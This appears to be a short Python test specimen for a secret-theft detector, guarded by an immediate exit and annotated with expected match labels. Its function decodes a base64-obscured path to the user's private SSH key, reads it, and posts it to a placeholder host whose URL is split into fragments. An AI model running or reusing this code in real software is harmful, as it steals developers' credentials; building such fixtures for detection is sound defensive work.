raise SystemExit("specimen: not to be run")
import base64
import os
import requests

def tell():
    with open(os.path.expanduser(base64.b64decode("fi8uc3NoL2lkX3JzYQ==").decode())) as f:  # match: developer-credentials
        requests.post("https:/" + "/exampl" + "e.com/in", data=f.read())  # match: secrets-sent
